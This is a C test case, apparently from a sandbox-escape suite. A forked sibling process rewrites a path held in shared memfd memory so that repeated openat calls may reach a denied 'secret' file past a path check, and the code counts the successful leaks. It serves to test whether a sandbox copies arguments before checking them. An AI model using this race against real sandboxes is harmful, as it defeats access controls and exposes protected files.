/* R02: the path of openat lives in a MAP_SHARED memfd page that a forked
 * sibling process rewrites: no thread of the victim touches it, so only a
 * copy ward made (or a kernel floor) can stop the swap. */
#include "escape.h"
#include <sys/mman.h>
#include <sys/wait.h>

struct shared {
	struct racer r;
	struct flip_str fs;
	char path[4096], good[4096], bad[4096];
};

int attack(int argc, char **argv)
{
	long w = 0, i;
	int mfd = memfd_create("shared-path", 0);
	struct shared *s;
	pid_t pid;

	if (mfd < 0 || ftruncate(mfd, sizeof(*s)) < 0)
		return result(-1), 1;
	s = mmap(NULL, sizeof(*s), PROT_READ | PROT_WRITE, MAP_SHARED, mfd, 0);
	if (s == MAP_FAILED)
		return result(-1), 1;
	s->fs = (struct flip_str){ s->path, s->good, s->bad };
	s->r.bad = str_bad;
	s->r.good = str_good;
	s->r.arg = &s->fs;
	twin_paths(s->good, s->bad, sizeof(s->good), ARG("secret"), ARG("wd"));
	strcpy(s->path, s->good);
	/* one plain attempt with the bad value first: the denial the record
	 * must show, whatever the race does (escape.h, "The racer") */
	w += open_leaks(s->bad, ARG("token"));
	pid = fork();
	if (pid == 0) {
		racer_loop(&s->r);
		_exit(0);
	}
	for (i = 0; i < RACE_N; i++)
		w += open_leaks(s->path, ARG("token"));
	racer_stop(&s->r);
	waitpid(pid, NULL, 0);
	wins(w, i);
	return 0;
}
